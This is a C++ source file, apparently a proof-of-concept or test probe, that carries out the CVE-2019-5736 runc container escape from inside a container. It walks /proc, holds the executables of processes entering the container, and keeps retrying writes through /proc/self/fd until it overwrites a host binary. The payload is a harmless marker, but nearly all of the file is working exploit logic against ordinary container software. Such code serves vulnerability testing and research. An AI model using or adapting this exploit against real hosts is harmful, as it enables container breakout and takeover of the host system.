// CVE-2019-5736 from inside: takes hold of the executable of every process that appears in the
// container, and writes to it once nothing runs it any more. Prints `ready`, then a line for each
// executable that it held, and `OVERWROTE path` when a write went through.
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <array>
#include <cstdio>
#include <cstdlib>
#include <set>
#include <string>

namespace {

constexpr char kMark[] = "#!/bin/false\noverwritten from inside a container\n";

std::string link_of(const std::string& path) {
  std::array<char, 4096> target;
  const ssize_t n = readlink(path.c_str(), target.data(), target.size());
  return n < 0 ? std::string() : std::string(target.data(), static_cast<size_t>(n));
}

// The rootfs' own programs may be overwritten: they are the attacker's.
bool is_ours(const struct stat& exe, dev_t our_device) { return exe.st_dev == our_device; }

bool overwrite(int held) {
  const std::string again = "/proc/self/fd/" + std::to_string(held);
  for (int attempt = 0; attempt < 20'000; ++attempt) {
    const int fd = open(again.c_str(), O_WRONLY | O_CLOEXEC);
    if (fd < 0) continue;  // ETXTBSY while it runs
    const bool written = write(fd, kMark, sizeof kMark - 1) > 0;
    close(fd);
    return written;
  }
  return false;
}

void attack(const char* pid, dev_t our_device, std::set<std::string>& reported) {
  const std::string exe = std::string("/proc/") + pid + "/exe";
  const int held = open(exe.c_str(), O_PATH | O_CLOEXEC);
  if (held < 0) return;
  struct stat st = {};
  fstat(held, &st);
  const std::string self = "/proc/self/fd/" + std::to_string(held);
  const std::string name = link_of(self);
  const bool in_rootfs = is_ours(st, our_device) && access(name.c_str(), F_OK) == 0;
  if (!in_rootfs) {
    if (reported.insert(name).second) std::printf("held %s\n", name.c_str());
    if (overwrite(held)) std::printf("OVERWROTE %s\n", name.c_str());
  }
  close(held);
}

}  // namespace

int main() {
  setvbuf(stdout, nullptr, _IOLBF, 0);
  struct stat root = {};
  stat("/", &root);
  std::set<std::string> reported;
  std::puts("ready");
  const std::string self = std::to_string(getpid());
  for (;;) {
    DIR* proc = opendir("/proc");
    if (proc == nullptr) return 1;
    while (const dirent* entry = readdir(proc))
      if (entry->d_name[0] > '0' && entry->d_name[0] <= '9' && self != entry->d_name)
        attack(entry->d_name, root.st_dev, reported);
    closedir(proc);
  }
}
